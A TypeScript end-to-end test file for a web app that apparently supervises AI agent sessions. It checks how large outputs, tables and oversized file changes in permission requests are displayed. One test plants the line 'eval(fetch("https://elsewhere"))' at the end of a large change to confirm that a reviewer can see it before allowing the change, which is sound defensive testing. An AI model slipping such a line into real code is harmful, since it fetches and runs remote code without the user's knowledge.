// Large texts: the part of them that the page renders, and the places where they can be read whole.
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { desktop, phone } from './rig/browser.ts'
import { Device } from './rig/device.ts'
import { Hub } from './rig/hub.ts'
import { until } from './rig/until.ts'

describe('a large text', () => {
  let hub: Hub
  let device: Device

  beforeAll(async () => {
    const agent = join(import.meta.dirname, 'rig/large-agent.mjs')
    hub = await Hub.start({ agents: { large: [process.execPath, agent] } })
    device = await Device.pair(hub)
  })
  afterAll(async () => {
    await device.stop()
    expect(await hub.stop()).toBe(0)
  })

  test('shows its end in the feed, and all of it in the details without a box that scrolls', async () => {
    const session = await hub.newSession('Line', 'large')
    await hub.turn(session, 'line')
    for (const size of [phone, desktop]) {
      const { page, errors } = await device.watch(session, size)
      const row = page.locator('article', { hasText: 'cat long.json' })
      const output = row.getByRole('group', { name: 'Output' })
      await output.getByText('end').waitFor()
      expect((await output.textContent())!.length).toBeLessThan(1_000)
      expect((await output.boundingBox())!.height).toBeLessThan(size.height / 2)
      await row.getByRole('button', { name: 'Show all 98 KB' }).click()
      await row.getByRole('button', { name: 'Open full view' }).click()
      const details = page.getByRole('dialog', { name: 'Full view' })
      const whole = details.getByRole('group', { name: 'Output' })
      await whole.waitFor()
      expect((await whole.textContent())!.length).toBeGreaterThan(100_000)
      await expect.poll(() => whole.evaluate((box) => box.scrollHeight - box.clientHeight)).toBe(0)
      await expect
        .poll(() => details.getByRole('group', { name: 'Input' }).textContent())
        .toContain('cat long.json')
      await page.goBack()
      await details.waitFor({ state: 'detached' })
      await expect
        .poll(() =>
          row.getByRole('button', { name: 'Open full view' }).evaluate((b) => b === document.activeElement),
        )
        .toBe(true)
      expect(errors).toEqual([])
      await page.close()
    }
  })

  test('stays open while it grows, and when it is whole', async () => {
    const session = await hub.newSession('Growing', 'large')
    await hub.prompt(session, 'grow')
    const { page, errors } = await device.watch(session)
    const rows = page.locator('.prose tbody tr')
    const open = page.getByRole('button', { name: /^Show all/ })
    await open.waitFor()
    await expect.poll(() => rows.count()).toBe(20)
    // Found and clicked in one step in the page, because each new row replaces the button.
    await until('a table that is open', async () => {
      await page.evaluate(() => document.querySelector<HTMLElement>('button.rest')?.click())
      return (await rows.count()) >= 40
    })
    const before = await rows.count()
    // The table must not close at any time.
    await until('more rows', async () => {
      const now = await rows.count()
      expect(now).toBeGreaterThanOrEqual(before)
      return now > before + 5
    })
    await page.getByRole('button', { name: 'Stop', exact: true }).click()
    await hub.event(session, 'turn_end')
    await hub.idle(session)
    await expect.poll(() => rows.count()).toBeGreaterThan(before + 5)
    await expect.poll(() => open.count()).toBe(0)
    expect(errors).toEqual([])
    await page.close()
  })

  test('shows the first rows of a table, all of them when asked, and all at once on the plain page', async () => {
    const session = await hub.newSession('Table', 'large')
    await hub.turn(session, 'table')
    const { page, errors } = await device.watch(session)
    const rows = page.locator('.prose tbody tr')
    await until('the table', async () => (await rows.count()) > 0)
    await expect.poll(() => rows.count()).toBe(20)
    await expect.poll(() => page.locator('*').count(), { message: 'nodes' }).toBeLessThan(1_500)
    await page.getByRole('button', { name: 'Show all 300 rows' }).click()
    await until('all rows', async () => (await rows.count()) === 300)
    await expect.poll(() => rows.last().textContent()).toContain('cell 300.30')
    await page.goto(`${hub.origin}/s/${session}/plain`)
    await until('all rows on the plain page', async () => (await rows.count()) === 300)
    await expect.poll(() => page.getByRole('button', { name: /rows/ }).count()).toBe(0)
    expect(errors).toEqual([])
    await page.close()
  })

  test('in a permission request is not shown as unchanged, and can be read whole before it is allowed', async () => {
    const session = await hub.newSession('Asks', 'large')
    await hub.prompt(session, 'asks')
    const { page, errors, permission } = await device.watch(session, desktop)
    const allow = permission.getByRole('button', { name: /Allow once/ })
    const falsely = page.getByText(/No change in the text|[+]0/)
    const last = permission.getByText('eval(fetch("https://elsewhere"))')

    await permission.getByText('This change is too large to show, and was not compared.').waitFor()
    await expect.poll(() => falsely.count()).toBe(0)
    await expect.poll(() => last.count()).toBe(0)
    await expect.poll(() => permission.locator('[data-large]').count()).toBe(2) // the start of the old and of the new text
    await expect
      .poll(() => permission.locator('pre', { hasText: 'export const line5 ' }).count())
      .toBeGreaterThan(0)
    const link = permission.getByRole('link', { name: 'Download' }).last()
    await expect.poll(() => link.getAttribute('download')).toBe('app.ts')
    // A click on the link requests a signed address, which needs no other credential.
    const { pathname } = new URL(await link.evaluate((a: HTMLAnchorElement) => a.href))
    const signed = await fetch(`${hub.origin}${pathname}`, {
      headers: { authorization: `Bearer ${hub.token}` },
    })
    const bytes = await signed.text()
    expect(bytes.endsWith('eval(fetch("https://elsewhere"))\n')).toBe(true)
    await permission.getByRole('button', { name: 'Compare' }).click()
    await last.waitFor()
    await expect.poll(() => permission.locator('.l.add').count()).toBe(2)
    await expect.poll(() => permission.locator('.l.remove').count()).toBe(1)
    await allow.click()

    await permission.getByRole('heading', { name: 'Write new.ts' }).waitFor()
    await permission.getByRole('button', { name: 'Compare' }).click()
    await permission.getByText('+6001').waitFor()
    for (const _ of [1, 2, 3]) await permission.getByRole('button', { name: /^Show [0-9]+ more$/ }).click()
    await last.waitFor()
    await allow.click()

    await permission.getByRole('heading', { name: 'Run it' }).waitFor()
    await permission.getByText('export const line0 ').first().waitFor()
    await expect.poll(() => last.count()).toBe(0)
    await permission.getByRole('button', { name: 'Show all of it' }).click()
    await last.waitFor()
    await allow.click()

    await hub.idle(session)
    await page.getByText('not counted').first().waitFor()
    await expect.poll(() => falsely.count()).toBe(0)
    expect(errors).toEqual([])
    await page.close()
  })
})
